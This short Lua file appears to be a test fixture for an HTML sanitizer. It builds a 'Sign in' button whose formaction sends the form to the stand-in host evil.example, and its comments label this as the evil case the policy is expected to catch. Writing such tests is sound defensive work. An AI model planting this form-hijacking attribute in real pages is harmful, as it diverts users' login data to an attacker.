-- SPDX-License-Identifier: GPL-3.0-or-later
-- A button that sends the form elsewhere.
-- wall: ELEMENTS ATTRIBUTES
-- evil: page has formaction
return function(vm, h)
  return h.button{formaction = "https://evil.example/", "Sign in"}
end
